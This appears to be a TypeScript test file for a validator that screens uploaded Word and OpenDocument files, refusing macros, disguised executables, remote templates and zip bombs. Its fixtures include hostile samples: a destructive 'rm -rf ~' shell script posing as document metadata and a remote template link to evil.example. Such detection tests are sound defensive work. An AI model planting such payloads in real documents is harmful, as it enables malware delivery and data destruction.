import { createWriteStream } from 'node:fs';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { Readable } from 'node:stream';
import CFB from 'cfb';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import yazl from 'yazl';
import { DOC, DOCX, ODT } from './filetype';
import { inspectDocument, MAX_PACKAGE_UNCOMPRESSED_BYTES } from './office-package';

type Entry = { name: string; data: string | Buffer | Readable; store?: boolean };

let dir: string;
let n = 0;
beforeAll(async () => {
  dir = await mkdtemp(path.join(os.tmpdir(), 'office-package-'));
});
afterAll(() => rm(dir, { recursive: true, force: true }));

function zipStream(entries: Entry[]) {
  const zip = new yazl.ZipFile();
  for (const e of entries) {
    const options = { compress: !e.store };
    if (e.data instanceof Readable) zip.addReadStream(e.data, e.name, options);
    else zip.addBuffer(Buffer.isBuffer(e.data) ? e.data : Buffer.from(e.data), e.name, options);
  }
  zip.end();
  return zip.outputStream;
}
async function zipBuffer(entries: Entry[]): Promise<Buffer> {
  const chunks: Buffer[] = [];
  for await (const c of zipStream(entries)) chunks.push(c as Buffer);
  return Buffer.concat(chunks);
}
/** Writes a ZIP with these entries, in this order, and returns its path. */
async function zipFile(entries: Entry[]): Promise<string> {
  const file = path.join(dir, `${n++}.zip`);
  await new Promise<void>((resolve, reject) => zipStream(entries).pipe(createWriteStream(file)).on('close', resolve).on('error', reject));
  return file;
}

const WORD_MAIN = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
const SHEET_MAIN = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml';
const types = (overrides: string) =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>${overrides}</Types>`;
const rels = (target: string, extra = '') =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="${target}"/>${extra}</Relationships>`;
const docx = (extra: Entry[] = [], overrides = `<Override PartName="/word/document.xml" ContentType="${WORD_MAIN}"/>`): Entry[] => [
  { name: '[Content_Types].xml', data: types(overrides) },
  { name: '_rels/.rels', data: rels('word/document.xml') },
  { name: 'word/document.xml', data: '<w:document xmlns:w="x"><w:body><w:p><w:r><w:t>My CV</w:t></w:r></w:p></w:body></w:document>' },
  ...extra,
];
const xlsx = (extra: Entry[] = []): Promise<Buffer> =>
  zipBuffer([
    { name: '[Content_Types].xml', data: types(`<Override PartName="/xl/workbook.xml" ContentType="${SHEET_MAIN}"/>`) },
    { name: '_rels/.rels', data: rels('xl/workbook.xml') },
    { name: 'xl/workbook.xml', data: '<workbook xmlns="x"><sheets/></workbook>' },
    { name: 'xl/printerSettings/printerSettings1.bin', data: Buffer.alloc(20, 1) },
    ...extra,
  ]);
const odt = (mimetype = 'application/vnd.oasis.opendocument.text', extra: Entry[] = []): Entry[] => [
  { name: 'mimetype', data: mimetype, store: true },
  { name: 'content.xml', data: '<office:document-content/>' },
  { name: 'META-INF/manifest.xml', data: '<manifest:manifest/>' },
  ...extra,
];
const inspectZip = async (entries: Entry[]) => inspectDocument(await zipFile(entries), DOCX);

describe('inspectDocument: Word and OpenDocument packages', () => {
  it('confirms a well-formed .docx, with images, a thumbnail and a chart workbook', async () => {
    const verdict = await inspectZip(
      docx([
        { name: 'word/media/image1.png', data: Buffer.from('\x89PNG\r\n\x1a\n', 'latin1') },
        { name: 'docProps/thumbnail.jpeg', data: Buffer.from([0xff, 0xd8, 0xff, 0xe0]) },
        { name: 'word/embeddings/Microsoft_Excel_Worksheet.xlsx', data: await xlsx() },
        { name: 'word/_rels/document.xml.rels', data: '<Relationships><Relationship Id="r" Type="http://x/hyperlink" Target="https://driftline.studio" TargetMode="External"/></Relationships>' },
      ]),
    );
    expect(verdict).toEqual({ ok: true, kind: DOCX });
  });

  it('confirms a well-formed .odt, with the pieces LibreOffice writes', async () => {
    const verdict = await inspectZip(odt(undefined, [{ name: 'layout-cache', data: 'x' }, { name: 'Thumbnails/thumbnail.png', data: '\x89PNG' }, { name: 'ObjectReplacements/Object 1', data: 'wmf' }]));
    expect(verdict).toEqual({ ok: true, kind: ODT });
  });

  it.each<[string, () => Promise<Entry[]> | Entry[], RegExp]>([
    ['a program beside the document', () => docx([{ name: 'evil.exe', data: 'MZ\x90\x00' }]), /evil\.exe/],
    ['only a script in word/', () => [{ name: 'word/payload.js', data: 'alert(1)' }], /payload\.js/],
    ['a script with a trailing dot (Windows drops it)', () => docx([{ name: 'word/evil.vbs.', data: 'x' }]), /odd name/],
    ['a script with a trailing space', () => docx([{ name: 'word/evil.hta ', data: 'x' }]), /odd name/],
    ['an NTFS stream name', () => docx([{ name: 'word/evil.js:stream', data: 'x' }]), /odd name/],
    ['a disk image', () => docx([{ name: 'word/media/x.iso', data: 'x' }]), /x\.iso/],
    ['a shortcut', () => docx([{ name: 'word/media/x.url', data: 'x' }]), /x\.url/],
    ['a nested archive under an image name', () => docx([{ name: 'word/media/image2.png', data: 'PK\x03\x04rest' }]), /archive/],
    ['a program under an innocent name', () => docx([{ name: 'word/media/image2.png', data: 'MZ\x90\x00\x03' }]), /program/],
    ['a shell script under an innocent name', () => docx([{ name: 'docProps/app.xml', data: '#!/bin/sh\nrm -rf ~' }]), /program/],
    ['macros', () => docx([{ name: 'word/vbaProject.bin', data: 'x' }]), /vbaProject/],
    ['an ActiveX control', () => docx([{ name: 'word/activeX/activeX1.xml', data: '<ax/>' }]), /activeX/],
    ['an OLE object', () => docx([{ name: 'word/embeddings/oleObject1.bin', data: 'x' }]), /oleObject/],
    ['an embedded old Word file (it can carry macros)', () => docx([{ name: 'word/embeddings/Microsoft_Word_97.doc', data: 'x' }]), /\.doc/],
    [
      'a remote template (how macros reach a .docx)',
      () => docx([{ name: 'word/_rels/settings.xml.rels', data: '<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>' }]),
      /attachedTemplate/,
    ],
    [
      'an external link that is not a hyperlink',
      () => docx([{ name: 'word/_rels/document.xml.rels', data: '<Relationships><Relationship Id="r" Type="http://x/image" Target="http://evil.example/x.png" TargetMode="External"/></Relationships>' }]),
      /outside/,
    ],
    ['no [Content_Types].xml', () => [{ name: '_rels/.rels', data: rels('word/document.xml') }, { name: 'word/document.xml', data: '<w:document/>' }], /Content_Types/],
    ['content types that are only a comment', () => docx([], `<!-- <Override PartName="/word/document.xml" ContentType="${WORD_MAIN}"/> -->`), /exactly one main/],
    ['content types that are not a Types document', () => [{ name: '[Content_Types].xml', data: `<Override PartName="/word/document.xml" ContentType="${WORD_MAIN}"/>` }, ...docx().slice(1)], /not a Types/],
    ['a declared main document that is missing', () => docx().filter((e) => e.name !== 'word/document.xml'), /missing/],
    ['package relationships that do not name it', () => [docx()[0], { name: '_rels/.rels', data: rels('word/other.xml') }, docx()[2]], /does not name/],
    ['a main document that is not a document', () => [docx()[0], docx()[1], { name: 'word/document.xml', data: '<html><script>x</script></html>' }], /html/],
    ['a macro-enabled main document', () => docx([], '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'), /macros/],
    ['a chart workbook with macros', async () => docx([{ name: 'word/embeddings/book.xlsx', data: await xlsx([{ name: 'xl/vbaProject.bin', data: 'x' }]) }]), /vbaProject/],
    ['an .odt with another mimetype', () => odt('application/vnd.oasis.opendocument.spreadsheet'), /mimetype/],
    ['an .odt with macros', () => odt(undefined, [{ name: 'Basic/Standard/Module1.xml', data: 'x' }]), /macros/],
    ['an .odt with macros inside an embedded object', () => odt(undefined, [{ name: 'Object 1/Basic/Standard/Module1.xml', data: 'x' }]), /macros/],
    ['an .odt with a script event', () => odt(undefined, [{ name: 'styles.xml', data: '<script:event-listener xlink:href="vnd.sun.star.script:Standard.M.X?location=share"/>' }]), /script/],
    ['an .odt carrying an HTML page', () => odt(undefined, [{ name: 'page.html', data: '<script>x</script>' }]), /page\.html/],
  ])('refuses %s', async (_, make, reason) => {
    const verdict = await inspectZip(await make());
    expect(verdict.ok).toBe(false);
    expect(!verdict.ok && verdict.reason).toMatch(reason);
  });

  it('refuses an .odt whose mimetype is compressed or not first', async () => {
    expect((await inspectZip([{ ...odt()[0], store: false }, ...odt().slice(1)])).ok).toBe(false);
    expect((await inspectZip([odt()[1], odt()[0], odt()[2]])).ok).toBe(false);
  });

  it('refuses a zip bomb: a declared uncompressed size over 10 times the limit', async () => {
    const zeros = Buffer.alloc(1024 * 1024);
    const bomb = Readable.from(
      (function* () {
        for (let left = MAX_PACKAGE_UNCOMPRESSED_BYTES + 1; left > 0; left -= zeros.length) yield zeros.subarray(0, Math.min(left, zeros.length));
      })(),
    );
    expect(await inspectZip(docx([{ name: 'word/media/zeros.png', data: bomb }]))).toEqual({ ok: false, reason: expect.stringMatching(/over 10 times/) });
  });

  it('refuses what is not a ZIP at all, or is cut short', async () => {
    const bytes = await readFile(await zipFile(docx()));
    const cut = path.join(dir, 'cut.zip');
    await writeFile(cut, bytes.subarray(0, bytes.length - 30));
    expect((await inspectDocument(cut, DOCX)).ok).toBe(false);
  });
});

describe('inspectDocument: old Word files (OLE)', () => {
  async function ole(streams: Record<string, string>): Promise<string> {
    const container = CFB.utils.cfb_new();
    for (const [name, data] of Object.entries(streams)) CFB.utils.cfb_add(container, `/${name}`, Buffer.from(data));
    const file = path.join(dir, `${n++}.doc`);
    await writeFile(file, CFB.write(container, { type: 'buffer' }) as Buffer);
    return file;
  }
  it('confirms a Word document', async () => {
    expect(await inspectDocument(await ole({ WordDocument: 'w', '1Table': 't' }), DOC)).toEqual({ ok: true, kind: DOC });
  });
  it.each<[string, Record<string, string>, RegExp]>([
    ['an installer or spreadsheet (no WordDocument stream)', { Workbook: 'x' }, /not a Word document/],
    ['macros', { WordDocument: 'w', 'Macros/VBA/dir': 'x' }, /Macros/],
    ['a packaged file', { WordDocument: 'w', 'ObjectPool/_1/\u0001Ole10Native': 'MZ' }, /Ole10Native/],
  ])('refuses %s', async (_, streams, reason) => {
    const verdict = await inspectDocument(await ole(streams), DOC);
    expect(verdict.ok).toBe(false);
    expect(!verdict.ok && verdict.reason).toMatch(reason);
  });
});
